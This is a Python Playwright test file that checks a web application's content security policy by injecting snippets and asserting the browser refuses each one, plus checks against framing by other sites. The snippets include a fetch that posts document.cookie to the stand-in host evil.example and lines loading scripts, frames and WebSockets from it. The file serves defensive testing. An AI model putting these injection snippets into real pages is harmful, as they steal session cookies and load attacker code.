"""The application under its own content security policy, in a real browser."""

import threading
from collections.abc import Callable, Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Join
from tests.browser.person import Faults, Person

INJECTED = {
    "a script": (
        "script-src-elem",
        """
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        document.head.append(script);
    """,
    ),
    "a script of another site": (
        "script-src-elem",
        """
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.head.append(script);
    """,
    ),
    "a script in an attribute": (
        "script-src-attr",
        """
        document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.injected = true'>");
    """,
    ),
    "text run as a program": (
        "script-src",
        """
        setTimeout("window.injected = true", 0);
    """,
    ),
    "a style": (
        "style-src-elem",
        """
        document.head.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>");
    """,
    ),
    "a picture of another site": (
        "img-src",
        """
        document.body.insertAdjacentHTML("beforeend", "<img src='https://evil.example/x.png'>");
    """,
    ),
    "a frame": (
        "frame-src",
        """
        document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>");
    """,
    ),
    "a call of another site": (
        "connect-src",
        """
        fetch("https://evil.example/", {method: "POST", body: document.cookie}).catch(() => 0);
    """,
    ),
    "a live connection to another site": (
        "connect-src",
        """
        try { new WebSocket("wss://evil.example/"); } catch {}
    """,
    ),
    "a form to another site": (
        "form-action",
        """
        document.body.insertAdjacentHTML("beforeend", "<form method=post action='https://evil.example/'>");
        document.body.lastChild.submit();
    """,
    ),
    "another base for addresses": (
        "base-uri",
        """
        document.head.insertAdjacentHTML("beforeend", "<base href='https://evil.example/'>");
    """,
    ),
}
Visit = Callable[..., Person]
POLICY = "Content Security Policy"
# The directive that refuses what the program injects, or nothing after a long while.
REFUSED = """() => new Promise((said) => {{
    document.addEventListener(
        "securitypolicyviolation", (event) => said(event.effectiveDirective), {{ once: true }});
    setTimeout(said, 20_000);
    {program}
}})"""


def test_policy_blocks_nothing_in_normal_use(join: Join, visit: Visit, faults: Faults):
    ada, (grace,) = visit("Ada").signs_up(), join("Grace")
    ada.starts("Lunch", grace)
    ada.writes("Noon?")
    ada.sees("Noon?")
    ada.clicks("Details")
    ada.clicks("Use dark colours")
    expect(ada.page.locator("html.dark")).to_be_visible()
    ada.follows("Profile", to="Profile")
    # On a second request, the browser uses the page in its cache.
    for _ in range(2):
        ada.goes_to("/")
        expect(ada.row("Lunch")).to_be_visible()
    ada.clicks("Sign out")
    ada.follows("Sign up", to="Sign up").follows("Sign in", to="Sign in")
    ada.signs_in().is_at("/")
    grace.goes_to("/").opens("Lunch").sees("Noon?")
    assert not faults.found


def test_injected_script_is_refused(visit: Visit, faults: Faults):
    ada: Person = visit("Ada").goes_to("/sign-in")
    expect(ada.field("Email")).to_be_visible()
    faults.expected.append(POLICY)
    for what, (directive, program) in INJECTED.items():
        assert ada.page.evaluate(REFUSED.format(program=program)) == directive, what
    assert ada.page.evaluate("() => window.injected === undefined && document.baseURI === location.href")
    # Not with a locator: that would wait for a navigation that never happens.
    assert ada.page.evaluate("() => document.getElementById('email').checkVisibility()")


@pytest.fixture
def other_site(tmp_path: Path) -> Iterator[str]:
    """The URL of another site, which serves the files of a folder."""
    handler = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_no_other_site_may_frame_the_application(
    visit: Visit, faults: Faults, other_site: str, tmp_path: Path
):
    ada = visit("Ada")
    faults.expected += ["frame-ancestors", "X-Frame-Options"]
    (tmp_path / "favicon.ico").touch()
    (tmp_path / "form.html").write_text("<label>Email<input></label>")
    for address, shown in ((f"{other_site}/form.html", 1), (f"{ada.url}/sign-in/", 0)):
        (tmp_path / f"frame-{shown}.html").write_text(f"<iframe src='{address}'></iframe>")
        ada.page.goto(f"{other_site}/frame-{shown}.html")
        expect(ada.page.frame_locator("iframe").locator("body")).to_be_attached()
        expect(ada.page.frame_locator("iframe").get_by_label("Email")).to_have_count(shown)
    assert any("frame-ancestors" in fault for fault in faults.found)
